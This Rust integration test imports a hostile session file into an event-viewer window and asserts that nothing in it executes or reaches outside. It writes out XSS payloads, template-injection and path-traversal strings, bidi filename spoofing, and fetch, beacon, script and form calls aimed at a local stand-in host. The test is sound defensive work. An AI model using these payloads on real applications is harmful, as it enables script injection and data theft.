//! Events of somebody who wishes the reader ill, in the real window with its policy on: everything that they wrote is
//! text, and nothing leaves the window.

use std::fmt::Write as _;
use std::net::TcpListener;

use serde_json::{Value, json};

use crate::close_hints;
use crate::desktop::{Desk, Screen};

/// Somewhere that must never be asked for anything.
struct Elsewhere {
    listener: TcpListener,
}

impl Elsewhere {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
        listener.set_nonblocking(true).expect("a listener that does not wait");
        Self { listener }
    }

    fn address(&self) -> String {
        format!("http://{}/", self.listener.local_addr().expect("its address"))
    }

    fn was_asked(&self) -> bool {
        self.listener.accept().is_ok()
    }
}

/// What is tried in every place that an event has for text.
fn attacks(elsewhere: &str) -> Vec<(&'static str, String)> {
    vec![
        (
            "markup",
            format!("<img src={elsewhere}a onerror=\"document.title='pwned'\"><svg onload=document.title='pwned'>"),
        ),
        (
            "script",
            format!("</script><script src=\"{elsewhere}b\"></script><base href=\"{elsewhere}\">"),
        ),
        (
            "style",
            format!("<style>*{{background:url({elsewhere}c)}}</style><link rel=stylesheet href={elsewhere}d>"),
        ),
        (
            "frame",
            format!("<iframe src=\"{elsewhere}e\"></iframe><meta http-equiv=refresh content=\"0;url={elsewhere}f\">"),
        ),
        ("script link", "javascript:document.title='pwned'".to_owned()),
        (
            "template",
            "{{constructor.constructor('document.title=1')()}} ${document.title='pwned'} %s %n".to_owned(),
        ),
        (
            "direction",
            "invoice\u{202e}gpj.exe \u{2066}hidden\u{2069} zero\u{200b}width".to_owned(),
        ),
        ("terminal", "\u{1b}[31mred\u{1b}]0;title\u{7}\u{0}".to_owned()),
        ("formula", "=HYPERLINK(\"http://a.example\",\"x\")".to_owned()),
        ("file name", "../../../etc/passwd\\..\\CON: *?<>|\"".to_owned()),
        ("combining", format!("Z{}algo", "\u{0336}\u{0489}".repeat(2_000))),
    ]
}

/// A session in which every text is an attack, with payloads that are as large, deep and wide as they come.
fn session_of(attacks: &[(&str, String)]) -> String {
    let uuid = |at: usize| format!("bad00000-0000-4000-8000-{at:012x}");
    // One for all, so that each event is a row without a launch above it.
    let client = &attacks[0].1;
    let event = |at: usize, attack: &str, payload: Value| {
        json!({
            "uuid": uuid(at), "eventNumber": at, "clientId": client, "timestamp": 1_763_700_000_000_u64 + 1000 * at as u64,
            "vendor": attack, "type": "generic", "payload": payload,
            "annotations": [{ "type": "user", "payload": { "note": attack } }],
        })
    };
    let mut events: Vec<Value> = attacks
        .iter()
        .enumerate()
        .map(|(at, (name, attack))| {
            let data = json!({ attack: attack, "page": attack, "nested": { "text": format!("{{\"{name}\":1}}") } });
            event(
                at,
                attack,
                json!({
                    "ACPExtensionEventName": format!("({name}) {attack}"),
                    "ACPExtensionEventType": attack,
                    "ACPExtensionEventSource": attack,
                    "ACPExtensionEventData": data,
                }),
            )
        })
        .collect();
    let named = |name: &str, data: Value| json!({ "ACPExtensionEventName": name, "ACPExtensionEventData": data });
    let wide: Value = (0..100_000)
        .map(|at| (format!("key {at}"), at.into()))
        .collect::<serde_json::Map<_, _>>()
        .into();
    events.push(event(
        100,
        "v",
        named("One long text", json!({ "text": "long ".repeat(200_000) })),
    ));
    events.push(event(101, "v", named("Many keys", wide)));
    let mut text =
        json!({ "uuid": uuid(999), "name": attacks[0].1, "link": attacks[4].1, "events": events }).to_string();
    let (deepest, levels) = (uuid(102), 10_000);
    let mut deep = format!(
        "{{\"uuid\":\"{deepest}\",\"eventNumber\":102,\"timestamp\":1763700102000,\"vendor\":\"v\",\"type\":\"generic\",\"payload\":"
    );
    let _ = write!(
        deep,
        "{{\"ACPExtensionEventName\":\"Deep\",\"data\":{}1{}}}}}",
        "[".repeat(levels),
        "]".repeat(levels)
    );
    let end = text.rfind(']').expect("the list of events");
    text.insert_str(end, &format!(",{deep}"));
    text
}

async fn script(desk: &Desk, script: &str) -> Value {
    desk.client()
        .execute(script, Vec::new())
        .await
        .expect("the page answers")
}

#[tokio::test]
#[ignore = "opens the real window; `cargo xtask test` runs it"]
async fn whatever_an_event_says_is_text() {
    let elsewhere = Elsewhere::new();
    let desk = Desk::open(Screen::LAPTOP).await;
    let attacks = attacks(&elsewhere.address());
    let file = desk.home().join("session.json");
    std::fs::write(&file, session_of(&attacks)).expect("the session is written");
    desk.import(&file, "Hostile");
    desk.click("link", "Archives").await;
    desk.click("row", "onerror").await;
    desk.press("Enter").await;
    desk.wait_for_text("Got it").await;
    close_hints(&desk).await;
    desk.wait_for_text("14 events").await;
    let before = script(&desk, "return [location.href, document.scripts.length]").await;

    for (name, _) in &attacks {
        desk.click("row", &format!("({name})")).await;
        desk.by_role("heading", &format!("({name})…")).await;
        for tab in ["Tree", "Raw", "Related", "Diff", "Summary"] {
            desk.click("tab", tab).await;
        }
    }
    desk.click("row", "(direction)").await;
    desk.wait_for_text("invoice[U+202E]gpj.exe [U+2066]hidden[U+2069] zero[U+200B]width")
        .await;
    for (name, seen) in [("One long text", "long long"), ("Many keys", "key 1"), ("Deep", "data")] {
        desk.click("row", name).await;
        desk.click("tab", "Tree").await;
        desk.wait_for_text(seen).await;
        desk.click("tab", "Raw").await;
        desk.wait_for_text(name).await;
    }
    for analysis in [
        "Transactions",
        "Errors",
        "Shared States",
        "Configuration",
        "Extension Versions",
        "Clients",
        "Logs",
        "Events",
    ] {
        desk.click("tab", analysis).await;
        desk.settle().await;
    }

    assert_eq!(
        script(&desk, "return [location.href, document.scripts.length]").await,
        before,
        "the page is the same"
    );
    assert_ne!(script(&desk, "return document.title").await, json!("pwned"));
    let foreign = "return [...document.querySelectorAll('img, iframe, link, base, object, embed, [onerror], [onload]')]
        .map((element) => element.getAttribute('src') ?? element.getAttribute('href') ?? element.tagName)
        .filter((from) => /^https?:|^IFRAME$|^OBJECT$|^EMBED$/.test(from) && !from.startsWith(location.origin))";
    assert_eq!(
        script(&desk, foreign).await,
        json!([]),
        "nothing of an event became an element"
    );
    assert!(!elsewhere.was_asked(), "nothing was asked from elsewhere");
    keeps_to_itself(&desk, &elsewhere).await;
}

/// Even a script inside the page could not leave it, bring something in, or make code of text.
async fn keeps_to_itself(desk: &Desk, elsewhere: &Elsewhere) {
    let eval = "try { return (0, eval)('1 + 1') } catch (error) { return error.name }";
    assert_eq!(script(desk, eval).await, json!("EvalError"));
    let made = "try { return new Function('return 2')() } catch (error) { return error.name }";
    assert_eq!(script(desk, made).await, json!("EvalError"));
    let address = elsewhere.address();
    for reach in [
        format!("const image = new Image(); image.src = '{address}image'; document.body.append(image)"),
        format!("fetch('{address}fetch').catch(() => null)"),
        format!("navigator.sendBeacon('{address}beacon')"),
        format!("try {{ new WebSocket('{address}'.replace('http', 'ws')) }} catch {{}}"),
        format!("const frame = document.createElement('iframe'); frame.src = '{address}frame'; document.body.append(frame)"),
        format!("const script = document.createElement('script'); script.src = '{address}script'; document.body.append(script)"),
        format!("window.open('{address}window')"),
        format!("location.href = '{address}place'"),
        format!("const form = document.createElement('form'); form.action = '{address}form'; document.body.append(form); form.submit()"),
        "const script = document.createElement('script'); script.textContent = \"document.title = 'pwned'\"; document.body.append(script)".to_owned(),
    ] {
        script(desk, &reach).await;
        // An answer of the page after the next frame: what was begun has been refused by then.
        desk.settle().await;
        assert!(!elsewhere.was_asked(), "{reach}");
    }
    assert_ne!(script(desk, "return document.title").await, json!("pwned"));
    desk.by_role("row", "Deep").await;
}
